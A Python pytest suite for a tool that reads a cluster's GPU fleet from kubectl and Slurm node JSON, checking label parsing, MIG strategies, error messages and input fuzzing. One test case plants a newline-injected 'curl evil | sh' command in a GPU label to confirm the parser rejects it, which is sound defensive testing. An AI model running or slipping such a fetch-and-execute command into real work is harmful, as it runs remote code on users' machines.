"""Reading a cluster's GPU fleet (resolver/fleet.py) from recorded outputs in the documented formats.

Fixtures (tests/fixtures/fleet/README.md says where each format is documented):
* kubectl-nodes.json: `kubectl get nodes -o json` of a mixed cluster: control plane and CPU workers (one arm64), H100,
  MIG A100 (single strategy), V100 and T4 nodes labelled by GPU Feature Discovery / the GPU operator.
* scontrol-nodes.json: `scontrol show node --json` of Slurm 23.11 (data_parser v0.0.40): login and CPU nodes, A100,
  V100 and H100 gres (one with a shard gres).
"""

from __future__ import annotations

import copy
import json
import os
import shutil
import stat
from pathlib import Path
from typing import Any

import pytest

from resolver import fleet, fleet_slurm
from resolver.errors import BadInput, DetectionError
from resolver.matrix import load
from resolver.models import ComputeCapability

FIXTURES = Path(__file__).parent / "fixtures" / "fleet"
K8S = FIXTURES / "kubectl-nodes.json"
SLURM = FIXTURES / "scontrol-nodes.json"


@pytest.fixture(scope="module")
def matrix() -> Any:
    return load()


def _k8s() -> dict[str, Any]:
    return json.loads(K8S.read_text())  # type: ignore[no-any-return]


def _node(doc: dict[str, Any], name: str) -> dict[str, Any]:
    return next(i for i in doc["items"] if i["metadata"]["name"] == name)  # type: ignore[no-any-return]


def _parse(doc: dict[str, Any], matrix: Any) -> fleet.Fleet:
    return fleet.parse(json.dumps(doc), "nodes.json", matrix)


def test_kubernetes_classes_skipped_nodes_and_labels_read(matrix: Any) -> None:
    f = fleet.read_fleet(str(K8S), matrix)
    assert f.kind == "kubernetes"
    assert [(c.gpu.compute_capability, str(c.driver), c.mig, len(c.nodes), c.gpus) for c in f.classes] == [
        (ComputeCapability(7, 0), "535.216.1", "off", 3, 24),
        (ComputeCapability(7, 5), "535.216.1", "off", 1, 4),
        (ComputeCapability(8, 0), "535.216.1", "single 1g.5gb", 1, 56),
        (ComputeCapability(9, 0), "550.127.5", "off", 2, 16),
    ]
    assert {c.platform for c in f.classes} == {"linux_x86_64"}
    assert {c.os for c in f.classes} == {"Ubuntu 22.04.4 LTS"}
    assert [c.label for c in f.classes] == ["Tesla V100-SXM2-16GB", "Tesla T4", "NVIDIA A100-SXM4-40GB",
                                            "NVIDIA H100 80GB HBM3"]
    assert [name for name, _ in f.skipped] == ["ip-10-0-1-17.ec2.internal", "ip-10-0-4-52.ec2.internal",
                                                "ip-10-0-4-53.ec2.internal"]
    assert all("no NVIDIA GPU" in why for _, why in f.skipped)
    for label in ("nvidia.com/gpu.product", "nvidia.com/gpu.count", "nvidia.com/gpu.compute.major",
                  "nvidia.com/cuda.driver.major", "nvidia.com/cuda.driver.rev", "nvidia.com/mig.strategy",
                  "status.nodeInfo.architecture", "status.nodeInfo.osImage"):
        assert label in f.labels
    text = "\n".join(f.summary())
    assert "7 GPU nodes in 4 classes" in text
    assert "skipped ip-10-0-4-53.ec2.internal: no NVIDIA GPU" in text
    assert "MIG single 1g.5gb" in text


def test_classes_split_on_driver_platform_os_and_mig(matrix: Any) -> None:
    doc = _k8s()
    v2 = _node(doc, "gpu-v100-2")
    v2["metadata"]["labels"]["nvidia.com/cuda.driver.major"] = "550"
    v3 = _node(doc, "gpu-v100-3")
    v3["status"]["nodeInfo"]["osImage"] = "Ubuntu 20.04.6 LTS"
    t4 = _node(doc, "gpu-t4-1")
    t4["status"]["nodeInfo"]["architecture"] = "arm64"
    f = _parse(doc, matrix)
    v100 = [c for c in f.classes if c.gpu.compute_capability == ComputeCapability(7, 0)]
    assert len(v100) == 3
    assert {c.platform for c in f.classes if c.label == "Tesla T4"} == {"linux_aarch64"}


def test_unknown_product_uses_the_compute_labels(matrix: Any) -> None:
    doc = _k8s()
    labels = _node(doc, "gpu-t4-1")["metadata"]["labels"]
    labels["nvidia.com/gpu.product"] = "NVIDIA-B300-SXM6-AC"
    labels["nvidia.com/gpu.compute.major"], labels["nvidia.com/gpu.compute.minor"] = "10", "3"
    f = _parse(doc, matrix)
    assert any(c.gpu.compute_capability == ComputeCapability(10, 3) and c.label == "NVIDIA B300 SXM6 AC"
               for c in f.classes)


@pytest.mark.parametrize("edit, message", [
    (lambda l: l.pop("nvidia.com/cuda.driver.minor"), "gpu-t4-1: GPU Feature Discovery labels incomplete, missing "
                                                       "nvidia.com/cuda.driver.minor"),
    (lambda l: l.pop("nvidia.com/gpu.compute.minor"), "missing nvidia.com/gpu.compute.minor"),
    (lambda l: (l.pop("nvidia.com/gpu.compute.major"), l.pop("nvidia.com/gpu.compute.minor"),
                l.update({"nvidia.com/gpu.product": "Mystery-GPU-9000"})),
     "gpu-t4-1: unknown GPU product 'Mystery-GPU-9000' and no compute capability given"),
    (lambda l: l.update({"nvidia.com/gpu.count": "four"}), "nvidia.com/gpu.count = 'four': not a whole number"),
    (lambda l: l.update({"nvidia.com/cuda.driver.major": "5x5"}), "not a whole number"),
    (lambda l: l.update({"nvidia.com/gpu.count": "\u0663"}), "not a whole number"),
    (lambda l: l.update({"nvidia.com/gpu.compute.major": " 7"}), "not a whole number"),
    (lambda l: l.update({"nvidia.com/gpu.product": "T4\nRUN curl evil | sh"}), "holds a newline"),
    (lambda l: [l.pop(k) for k in list(l) if k.startswith("nvidia.com/") and k != "nvidia.com/gpu.present"],
     "nvidia.com/gpu in status.capacity but no GPU Feature Discovery labels"),
])
def test_partial_or_bad_labels_are_one_line_bad_input(matrix: Any, edit: Any, message: str) -> None:
    doc = _k8s()
    edit(_node(doc, "gpu-t4-1")["metadata"]["labels"])
    with pytest.raises(BadInput) as err:
        _parse(doc, matrix)
    assert message in str(err.value)
    assert "\n" not in str(err.value)


def test_node_count_zero_is_skipped_and_no_gpu_at_all_is_bad_input(matrix: Any) -> None:
    doc = _k8s()
    _node(doc, "gpu-t4-1")["metadata"]["labels"]["nvidia.com/gpu.count"] = "0"
    f = _parse(doc, matrix)
    assert ("gpu-t4-1", "nvidia.com/gpu.count=0") in f.skipped
    cpu_only = {"apiVersion": "v1", "kind": "List", "items": [i for i in doc["items"] if "gpu" not in
                                                                i["metadata"]["name"]]}
    with pytest.raises(BadInput, match="none of its 3 kubernetes nodes has an NVIDIA GPU"):
        _parse(cpu_only, matrix)


def test_unsupported_node_platform_is_bad_input(matrix: Any) -> None:
    doc = _k8s()
    _node(doc, "gpu-t4-1")["status"]["nodeInfo"]["architecture"] = "ppc64le"
    with pytest.raises(BadInput, match="gpu-t4-1: linux/ppc64le is not a platform gpustack plans for"):
        _parse(doc, matrix)


def test_mixed_mig_strategy_lists_the_profiles(matrix: Any) -> None:
    doc = _k8s()
    labels = _node(doc, "gpu-a100-mig-1")["metadata"]["labels"]
    labels["nvidia.com/mig.strategy"] = "mixed"
    labels["nvidia.com/gpu.product"] = "NVIDIA-A100-SXM4-40GB"
    labels["nvidia.com/gpu.count"] = "8"
    labels["nvidia.com/mig-1g.5gb.count"] = "14"
    labels["nvidia.com/mig-3g.20gb.count"] = "4"
    f = _parse(doc, matrix)
    (a100,) = [c for c in f.classes if c.gpu.compute_capability == ComputeCapability(8, 0)]
    assert a100.mig == "mixed 1g.5gb,3g.20gb"
    assert "nvidia.com/mig-3g.20gb.count" in f.labels
    assert a100.gpus == 8 + 14 + 4
    labels["nvidia.com/gpu.count"] = "0"  # every GPU split into MIG devices: still a GPU node
    (a100,) = [c for c in _parse(doc, matrix).classes if c.gpu.compute_capability == ComputeCapability(8, 0)]
    assert a100.gpus == 18


def test_slurm_gres_features_and_unknown_driver(matrix: Any) -> None:
    f = fleet.read_fleet(str(SLURM), matrix)
    assert f.kind == "slurm"
    assert [(c.label, str(c.gpu.compute_capability), c.gpus, len(c.nodes)) for c in f.classes] == [
        ("V100", "7.0", 8, 1), ("A100", "8.0", 8, 2), ("H100", "9.0", 16, 2)]
    assert all(c.driver is None for c in f.classes)
    assert [n for n, _ in f.skipped] == ["login01", "cpu001", "cpu002"]
    assert f.driver_unknown and any("pass --driver" in n for n in f.all_notes())
    assert f.labels == ("architecture", "features", "gres")


def test_slurm_gres_forms(matrix: Any) -> None:
    assert fleet_slurm._gres_gpus("gpu:a100:8(S:0-1),shard:a100:64(S:0,1)", "x") == [("a100", 8)]
    assert fleet_slurm._gres_gpus("gpu:2", "x") == [(None, 2)]
    assert fleet_slurm._gres_gpus("gpu:a100_1g.10gb:7,gpu:a100:1", "x") == [("a100_1g.10gb", 7), ("a100", 1)]
    assert fleet_slurm._gres_gpus("(null)", "x") == []
    doc = json.loads(SLURM.read_text())
    doc["nodes"][3]["gres"] = "gpu:4(S:0-1)"  # no type: a feature names the GPU
    doc["nodes"][4]["gres"] = "gpu:a100_1g.10gb:7(S:0)"
    doc["nodes"][5]["features"] = "v100,ib"  # v0.0.37/38 wrote features as one string
    f = fleet.parse(json.dumps(doc), "s.json", matrix)
    assert {c.mig for c in f.classes} == {"off", "single 1g.10gb"}
    doc["nodes"][3]["features"] = ["ib"]
    with pytest.raises(BadInput, match="gpu-a001: unknown GPU product \\(a gres with no GPU type"):
        fleet.parse(json.dumps(doc), "s.json", matrix)


def test_a_node_with_two_gpu_types_is_one_node(matrix: Any) -> None:
    # `gpu:h100:4,gpu:a100:4` puts one node in two classes; the summary counted it as two GPU nodes
    doc = json.loads(SLURM.read_text())
    gpu_nodes = [n for n in doc["nodes"] if n.get("gres") not in ("", "(null)", None)]
    doc["nodes"] = [n for n in doc["nodes"] if n not in gpu_nodes] + [{**gpu_nodes[0], "gres": "gpu:h100:4,gpu:a100:4"}]
    f = fleet.parse(json.dumps(doc), "s.json", matrix)
    assert sorted(c.label for c in f.classes) == ["A100", "H100"]
    assert f.summary()[0].startswith("fleet: slurm nodes from s.json: 1 GPU node in 2 classes"), f.summary()[0]


@pytest.mark.parametrize("text, message", [
    ("NAME STATUS ROLES\nnode1 Ready <none>\n", "not JSON (line 1)"),
    ('{"kind": "Pod", "items": {}}', "neither a Kubernetes node list"),
    ("[1, 2]", "neither a Kubernetes node list"),
    ('{"kind": "List", "items": ["x"]}', "an item of the node list is not an object"),
    ('{"nodes": [{"name": "n1", "gres": 5}]}', "node n1: gres is not a string"),
    ('{"nodes": [{"name": "n1", "gres": "gpu:h100:8"}]}', "node n1: no architecture"),
    ("[" * 100000, "not JSON"),
])
def test_bad_documents_are_one_line(matrix: Any, text: str, message: str) -> None:
    with pytest.raises(BadInput) as err:
        fleet.parse(text, "f.json", matrix)
    assert message in str(err.value)
    assert "\n" not in str(err.value)


def test_reader_takes_regular_files_only(matrix: Any, tmp_path: Path) -> None:
    fifo = tmp_path / "nodes.fifo"
    os.mkfifo(fifo)
    with pytest.raises(BadInput, match="not a regular file"):  # returns at once: no writer is waited for
        fleet.read_fleet(str(fifo), matrix)
    with pytest.raises(BadInput, match="is a folder"):
        fleet.read_fleet(str(tmp_path), matrix)
    with pytest.raises(BadInput, match="cannot read it \\(No such file or directory\\)"):
        fleet.read_fleet(str(tmp_path / "missing.json"), matrix)
    binary = tmp_path / "nodes.bin"
    binary.write_bytes(b"\xff\xfe{}")
    with pytest.raises(BadInput, match="not UTF-8"):
        fleet.read_fleet(str(binary), matrix)
    assert stat.S_ISFIFO(fifo.stat().st_mode)


def test_reader_refuses_files_over_the_limit(matrix: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    big = tmp_path / "nodes.json"
    big.write_text(K8S.read_text())
    monkeypatch.setattr(fleet, "MAX_BYTES", 1000)
    with pytest.raises(BadInput, match="over the 1000-byte limit"):
        fleet.read_fleet(str(big), matrix)


def test_cluster_clients_missing_or_failing(matrix: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    cat = shutil.which("cat")
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(BadInput, match="--fleet slurm: scontrol is not on PATH"):
        fleet.read_fleet("slurm", matrix)
    # A kubectl that answers as a real one does without a cluster, and one that answers with the node list.
    kubectl = tmp_path / "kubectl"
    kubectl.write_text("#!/bin/sh\necho 'The connection to the server localhost:8080 was refused - did you specify "
                       "the right host or port?' >&2\nexit 1\n")
    kubectl.chmod(0o755)
    # not the input's fault: exit 1, as README says of a read that fails (it was 2, bad input)
    with pytest.raises(DetectionError, match="`kubectl get nodes -o json` failed: The connection to the server"):
        fleet.read_fleet("k8s", matrix)
    from click.testing import CliRunner

    from resolver.cli import main

    out = CliRunner().invoke(main, ["plan", "--fleet", "k8s"])
    assert out.exit_code == 1 and len(out.output.strip().splitlines()) == 1, out.output
    kubectl.write_text(f"#!/bin/sh\nexec {cat} '{K8S}'\n")
    f = fleet.read_fleet("k8s", matrix)
    assert f.origin == "`kubectl get nodes -o json`" and len(f.classes) == 4


def test_class_slugs_are_distinct_file_names(matrix: Any) -> None:
    f = fleet.read_fleet(str(K8S), matrix)
    slugs = [c.slug for c in f.classes]
    assert slugs == ["v100-sxm2-16gb-d535", "t4-d535", "a100-sxm4-40gb-d535-mig", "h100-80gb-hbm3-d550"]
    doc = copy.deepcopy(_k8s())
    assert _parse(doc, matrix).classes == f.classes


# --- property: whatever the file holds, the answer is a fleet or one line of BadInput ------------------------------

from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

_KEYS = ["nvidia.com/gpu.product", "nvidia.com/gpu.count", "nvidia.com/gpu.compute.major",
         "nvidia.com/gpu.compute.minor", "nvidia.com/cuda.driver.major", "nvidia.com/cuda.driver.minor",
         "nvidia.com/cuda.driver.rev", "nvidia.com/mig.strategy", "nvidia.com/gpu.memory", "nvidia.com/mig-1g.5gb.count"]
_VALUES = st.one_of(st.text(max_size=12), st.integers(-5, 10**12).map(str), st.sampled_from(
    ["", "0", "8", "single", "mixed", "A100-SXM4-40GB-MIG-1g.5gb", "Tesla-T4", "٣", "1e3", "7\n"]))
_JSON = st.recursive(st.none() | st.booleans() | st.integers() | st.text(max_size=8),
                     lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
                     max_leaves=12)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(edits=st.dictionaries(st.sampled_from(_KEYS), st.one_of(st.none(), _VALUES), max_size=5),
       arch=st.sampled_from(["amd64", "arm64", "ppc64le", "", None]))
def test_any_label_edit_gives_a_fleet_or_one_line(matrix: Any, edits: dict[str, str | None], arch: str | None) -> None:
    doc = _k8s()
    node = _node(doc, "gpu-t4-1")
    labels = node["metadata"]["labels"]
    for key, value in edits.items():
        if value is None:
            labels.pop(key, None)
        else:
            labels[key] = value
    node["status"]["nodeInfo"]["architecture"] = arch
    try:
        f = _parse(doc, matrix)
    except BadInput as exc:
        assert "\n" not in str(exc) and str(exc).startswith("--fleet nodes.json")
        return
    assert f.classes


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(body=_JSON, shape=st.sampled_from(["k8s", "slurm", "raw"]))
def test_any_json_gives_a_fleet_or_one_line(matrix: Any, body: Any, shape: str) -> None:
    doc = {"kind": "List", "items": [body]} if shape == "k8s" else {"nodes": [body]} if shape == "slurm" else body
    try:
        fleet.parse(json.dumps(doc), "f.json", matrix)
    except BadInput as exc:
        assert "\n" not in str(exc)


@pytest.mark.parametrize("os_image, key", [
    ("Ubuntu 22.04.4 LTS", "ubuntu-22.04"), ("CentOS Linux 7 (Core)", "centos-7"), ("CentOS Stream 9", "centos-9"),
    ("Red Hat Enterprise Linux Server 7.9 (Maipo)", "rhel-7"), ("Red Hat Enterprise Linux 8.9 (Ootpa)", "rhel-8"),
    ("Rocky Linux 9.3 (Blue Onyx)", "rocky-9"), ("Amazon Linux 2023.6.20241121", "amzn-2023"),
    ("Amazon Linux 2", "amzn-2"), ("Debian GNU/Linux 12 (bookworm)", "debian-12"),
    ("Bottlerocket OS 1.20.3 (aws-k8s-1.29-nvidia)", None), ("Red Hat Enterprise Linux CoreOS 414.92", None),
])
def test_an_os_image_names_the_os_whose_glibc_the_matrix_gives(os_image: str, key: str | None) -> None:
    assert fleet.os_release_id(os_image) == key
    assert key is None or load().os_release(key) is not None  # each OS read here has its glibc, with its source
